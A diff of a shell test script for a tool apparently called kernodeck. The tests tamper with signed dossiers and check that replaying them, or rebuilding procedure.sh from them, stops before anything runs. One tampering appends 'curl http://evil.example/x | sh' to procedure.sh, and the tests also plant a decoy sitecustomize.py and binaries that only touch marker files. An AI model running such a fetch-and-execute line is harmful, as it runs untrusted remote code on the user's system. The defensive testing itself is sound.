@@ -7,8 +7,12 @@
 # dossier's copy, control bytes in a string the plan shows), re-signs the
 # dossier (SHA256SUMS recomputed) and replays it; it checks the exit
 # status, the message, that the folder outside stays empty and that no
-# raw control byte was printed.  KD_HOSTILE=NAME runs one row,
-# KD_HOSTILE_SHOW=1 prints each output.
+# raw control byte was printed.  A row with a procedure message is checked
+# through both paths: procedure.sh is made again from the hostile dossier
+# (tests/helpers/procedure-again, as replay makes it to compare), and
+# `bash procedure.sh` must stop with that message before it sets or runs
+# anything (its work folder is never made, the payload never runs).
+# KD_HOSTILE=NAME runs one row, KD_HOSTILE_SHOW=1 prints each output.
 . "$KD_SRCDIR/tests/lib.sh"
 PY=/usr/bin/python3
 TABLE="$KD_SRCDIR/tests/hostile/replay.tsv"
@@ -38,12 +42,17 @@ for root, dirs, files in os.walk(d):
 open(os.path.join(d, "SHA256SUMS"), "w").write("".join(sorted(lines, key=lambda l: l[66:])))
 PYEOF
 }
-# setref D KEY=VALUE: set a field of the dossier's reference (YAML value)
+# setref D KEY=VALUE: set a field of the dossier's reference (a YAML
+# value when it starts with [ or {, else text in which \uHHHH and \n
+# stand for the character; @OUTSIDE@ is the folder outside)
 setref() {
-	$PY - "$1/kernodeck/reference.yaml" "$2" <<'PYEOF'
-import sys, yaml
+	$PY - "$1/kernodeck/reference.yaml" "$2" "$OUT" <<'PYEOF'
+import re, sys, yaml
 p, kv = sys.argv[1], sys.argv[2]
 k, v = kv.split("=", 1)
+v = v.replace("@OUTSIDE@", sys.argv[3])
+if v[:1] not in "[{":
+    v = re.sub(r"\\u([0-9a-fA-F]{4})|\\n", lambda m: chr(int(m.group(1), 16)) if m.group(1) else "\n", v)
 d = yaml.safe_load(open(p))
 cur = d
 keys = k.split(".")
@@ -52,6 +61,28 @@ for x in keys[:-1]:
 cur[keys[-1]] = yaml.safe_load(v) if v[:1] in "[{" else v
 yaml.safe_dump(d, open(p, "w"), sort_keys=False)
 PYEOF
+}
+# setenv D NAME=VALUE: set a variable of dossier.yaml's environment
+# (@PAYLOAD@ in VALUE is the payload folder; \uHHHH and \n as in setref)
+setenv() {
+	$PY - "$1/dossier.yaml" "$2" "$KD_TMP/payload" <<'PYEOF'
+import re, sys, yaml
+p, kv, pl = sys.argv[1], sys.argv[2], sys.argv[3]
+k, v = kv.split("=", 1)
+v = re.sub(r"\\u([0-9a-fA-F]{4})|\\n", lambda m: chr(int(m.group(1), 16)) if m.group(1) else "\n", v)
+d = yaml.safe_load(open(p))
+d.setdefault("environment", {})[k] = v.replace("@PAYLOAD@", pl)
+yaml.safe_dump(d, open(p, "w"), sort_keys=False)
+PYEOF
+}
+# the payload a hostile variable would run: each piece writes into $OUT
+payload() {
+	mkdir -p "$KD_TMP/payload"
+	printf '#!/bin/sh\ntouch "%s/ran-$(basename "$0")"\n' "$OUT" >"$KD_TMP/payload/payload.sh"
+	for t in git python3 python bash sh env; do cp "$KD_TMP/payload/payload.sh" "$KD_TMP/payload/$t"; done
+	printf 'open("%s/ran-python", "w").close()\n' "$OUT" >"$KD_TMP/payload/sitecustomize.py"
+	cp "$KD_TMP/payload/sitecustomize.py" "$KD_TMP/payload/payload.py"
+	chmod +x "$KD_TMP/payload/"*
 }
 
 # project NAME: a project with a rebuild file and an inventory, committed
@@ -79,8 +110,26 @@ python:
 YAML
 }
 
-run_row() { # name how exit message known
-	name=$1 how=$2 want=$3 msg=$4 known=$5
+# by_hand NAME MESSAGE: procedure.sh made again from the hostile dossier
+# $D, run with bash; prints why it failed, or nothing
+by_hand() {
+	"$KD_BUILDDIR/tests/helpers/procedure-again" "$D" || { echo "procedure-again failed"; return; }
+	resign "$D"
+	rm -rf "$OUT"; mkdir -p "$OUT"
+	PW="$KD_TMP/$1/pw"
+	(cd "$KD_TMP/$1" && timeout 120 bash "$D/procedure.sh" "$PW" </dev/null >"$KD_TMP/$1/proc.out" 2>&1)
+	pgot=$?
+	[ -n "${KD_HOSTILE_SHOW:-}" ] && sed "s/^/# $1 (procedure.sh): /" "$KD_TMP/$1/proc.out"
+	[ "$pgot" -eq 2 ] || printf 'procedure.sh exit %s, wanted 2; ' "$pgot"
+	grep -qF -- "$2" "$KD_TMP/$1/proc.out" || printf 'no "%s" in procedure.sh'"'"'s output; ' "$2"
+	[ ! -e "$PW" ] || printf 'procedure.sh went on (made %s); ' "$PW"
+	[ -z "$(ls -A "$OUT")" ] || printf 'the payload ran through procedure.sh: %s; ' "$(ls -A "$OUT" | tr '\n' ' ')"
+	c=$(raw "$KD_TMP/$1/proc.out")
+	[ "$c" -eq 0 ] || printf '%s raw control bytes printed by procedure.sh; ' "$c"
+}
+
+run_row() { # name how exit message procedure-message known
+	name=$1 how=$2 want=$3 msg=$4 pmsg=$5 known=$6
 	ENTRY= OUTS=
 	project "$name"
 	yes=--yes
@@ -139,12 +188,18 @@ run_row() { # name how exit message known
 		IFS=$oldifs
 		case "$step" in
 		field:*) setref "$D" "${step#field:}" ;;
+		env:*) setenv "$D" "${step#env:}" ;;
 		copy:*) echo "evilpkg==6.6.6" >>"$D/project/${step#copy:}" ;;
 		drop:*) rm -f "$D/project/${step#drop:}" ;;
 		line:*)
 			# a line added to the dossier's copy of the rebuild file
 			echo "${step#line:}" >>"$D/project/requirements-rebuild.txt" ;;
 		procedure) echo "curl http://evil.example/x | sh" >>"$D/procedure.sh" ;;
+		again)
+			# procedure.sh made again from the changed reference, as
+			# anyone can: the refusal must come from elsewhere
+			"$KD_BUILDDIR/tests/helpers/procedure-again" "$D" ;;
+		declined) yes= ;;
 		esc:entry) yes= ;;
 		esc:rebuild) yes= ;;
 		esac
@@ -163,6 +218,10 @@ run_row() { # name how exit message known
 	c=$(raw "$KD_TMP/$name/out")
 	[ "$c" -eq 0 ] || why="${why:+$why; }$c raw control bytes printed"
 	[ -n "${KD_HOSTILE_SHOW:-}" ] && sed "s/^/# $name: /" "$KD_TMP/$name/out"
+	if [ -n "$pmsg" ]; then
+		pwhy=$(by_hand "$name" "$pmsg")
+		[ -z "$pwhy" ] || why="${why:+$why; }${pwhy%; }"
+	fi
 	if [ -z "$why" ] && [ -n "$known" ]; then
 		ok "replay-hostile $name (exit $got; marked as a known bug but it passes: remove the mark)"
 	elif [ -z "$why" ]; then
@@ -179,15 +238,19 @@ if ! $PY -c "import yaml" 2>/dev/null; then
 	skip "replay-hostile" "python3-yaml is needed to edit the dossiers"
 	exit 0
 fi
-nrows=0
+payload
+nrows=0 nboth=0
 tab=$(printf '\t')
-while IFS="$tab" read -r name how want msg known; do
+while IFS="$tab" read -r name how want msg pmsg known; do
 	case "$name" in ''|'#'*) continue ;; esac
 	[ -n "${KD_HOSTILE:-}" ] && [ "$name" != "$KD_HOSTILE" ] && continue
 	nrows=$((nrows + 1))
-	run_row "$name" "$how" "$want" "$msg" "$known"
+	[ "$pmsg" != - ] || pmsg=
+	[ -z "$pmsg" ] || nboth=$((nboth + 1))
+	run_row "$name" "$how" "$want" "$msg" "$pmsg" "$known"
 done <"$TABLE"
-[ -n "${KD_HOSTILE:-}" ] || check "the replay table has $nrows rows (at least 25)" test "$nrows" -ge 25
+[ -n "${KD_HOSTILE:-}" ] || check "the replay table has $nrows rows (at least 45), $nboth through procedure.sh too (at least 20)" \
+	test "$nrows" -ge 45 -a "$nboth" -ge 20
 
 # an include that leaves the project cannot go into a dossier: the clone
 # would not hold it, and the replay could not compare it
